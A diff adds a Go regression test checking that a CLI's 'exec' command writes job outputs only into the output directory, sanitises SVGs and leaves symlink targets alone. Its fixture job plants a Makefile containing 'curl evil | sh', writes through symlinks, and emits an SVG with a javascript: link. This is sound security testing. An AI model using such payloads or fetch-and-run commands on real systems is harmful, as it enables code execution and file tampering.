@@ -156,3 +156,111 @@ func TestArtifactPathStaysInDir(t *testing.T) {
 		})
 	}
 }
+
+// TestExecWritesOnlyIntoTheOutputDir: issue 10, finding 1. The CLI wrote every file a
+// job left in its working directory at its relative path, with os.WriteFile: a job
+// replaced ./Makefile, wrote through a symlink into a sibling directory, and an SVG
+// with a javascript: link came back as it was.
+func TestExecWritesOnlyIntoTheOutputDir(t *testing.T) {
+	base := t.TempDir()
+	code := filepath.Join(base, "job.py")
+	job := `import os, matplotlib.pyplot as plt
+plt.plot([1, 2]); plt.show()
+open('Makefile', 'w').write('all:\n\tcurl evil | sh\n')
+open('notes.txt', 'w').write('scratch')
+os.makedirs(OUTPUT_DIR + '/evil', exist_ok=True)
+open(OUTPUT_DIR + '/evil/planted.txt', 'w').write('through the link')
+open(OUTPUT_DIR + '/table.csv', 'w').write('a,b\n1,2\n')
+open(OUTPUT_DIR + '/link.svg', 'w').write('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a></svg>')
+`
+	if err := os.WriteFile(code, []byte(job), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	// The output directory holds the user's own Makefile, a symlink to a sibling
+	// directory named like the job's subfolder, and a symlink named like a figure.
+	setup := func(t *testing.T) (out, sibling, victim string) {
+		root := t.TempDir()
+		out, sibling, victim = filepath.Join(root, "out"), filepath.Join(root, "sibling"), filepath.Join(root, "victim.txt")
+		for _, d := range []string{out, sibling} {
+			if err := os.Mkdir(d, 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := os.WriteFile(filepath.Join(out, "Makefile"), []byte("mine"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(victim, []byte("untouched"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Symlink(sibling, filepath.Join(out, "evil")); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Symlink(victim, filepath.Join(out, "figure_1.png")); err != nil {
+			t.Fatal(err)
+		}
+		return out, sibling, victim
+	}
+	check := func(t *testing.T, out, sibling, victim string, written bool) {
+		t.Helper()
+		if b, _ := os.ReadFile(filepath.Join(out, "Makefile")); string(b) != "mine" {
+			t.Errorf("the user's Makefile was replaced: %q", b)
+		}
+		if b, _ := os.ReadFile(victim); string(b) != "untouched" {
+			t.Errorf("a write followed the figure_1.png symlink: victim now %q", b)
+		}
+		if entries, _ := os.ReadDir(sibling); len(entries) != 0 {
+			t.Errorf("a write went through the evil/ symlink into the sibling directory: %v", entries)
+		}
+		if _, err := os.Stat(filepath.Join(out, "notes.txt")); err == nil {
+			t.Errorf("notes.txt, outside the job's output folder, was written")
+		}
+		if !written {
+			return
+		}
+		if b, err := os.ReadFile(filepath.Join(out, "link.svg")); err != nil || bytes.Contains(b, []byte("javascript")) {
+			t.Errorf("link.svg not sanitized (err %v): %s", err, b)
+		}
+		if b, _ := os.ReadFile(filepath.Join(out, "planted.txt")); string(b) != "through the link" {
+			t.Errorf("outputs/evil/planted.txt should land flat in the output directory, got %q", b)
+		}
+	}
+
+	t.Run("without --overwrite an existing name is an error", func(t *testing.T) {
+		out, sibling, victim := setup(t)
+		_, stderr, code := runCLI(t, "exec", "--local", code, "-o", out, "--json")
+		if code == 0 || !strings.Contains(stderr, "figure_1.png already exists") {
+			t.Errorf("exit %d, stderr %q; want a failure naming figure_1.png", code, stderr)
+		}
+		check(t, out, sibling, victim, false)
+		if fi, err := os.Lstat(filepath.Join(out, "figure_1.png")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
+			t.Errorf("the user's figure_1.png symlink was replaced without --overwrite")
+		}
+	})
+	t.Run("--overwrite replaces the symlink, never its target", func(t *testing.T) {
+		out, sibling, victim := setup(t)
+		stdout, stderr, code := runCLI(t, "exec", "--local", code, "-o", out, "--overwrite", "--json")
+		if code != 0 {
+			t.Fatalf("exit %d\nstdout %s\nstderr %s", code, stdout, stderr)
+		}
+		check(t, out, sibling, victim, true)
+		fi, err := os.Lstat(filepath.Join(out, "figure_1.png"))
+		if err != nil || !fi.Mode().IsRegular() {
+			t.Errorf("figure_1.png is not a regular file: %v %v", fi, err)
+		}
+		var got execOutput
+		if err := json.Unmarshal([]byte(stdout), &got); err != nil {
+			t.Fatal(err)
+		}
+		var names []string
+		for _, a := range got.Artifacts {
+			names = append(names, a.Name)
+		}
+		if diff := cmp.Diff([]string{"figure_1.png", "link.svg", "table.csv", "planted.txt"}, names); diff != "" {
+			t.Errorf("artifacts (-want +got):\n%s", diff)
+		}
+		leftovers, _ := filepath.Glob(filepath.Join(out, ".kubectl-viz-*"))
+		if len(leftovers) != 0 {
+			t.Errorf("temporary files left: %v", leftovers)
+		}
+	})
+}
